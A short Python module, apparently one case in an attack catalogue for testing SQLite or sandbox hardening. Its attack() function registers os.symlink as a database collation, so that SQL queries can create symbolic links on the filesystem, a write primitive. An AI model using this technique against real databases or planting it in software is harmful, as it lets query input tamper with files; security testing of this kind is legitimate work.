"""A C function of two arguments as a collation."""
CATEGORY = "callable"
REACH = "write"

import os

from . import payload

TARGET = payload.TARGET


def attack(connection):
    connection.create_collation("own", os.symlink)
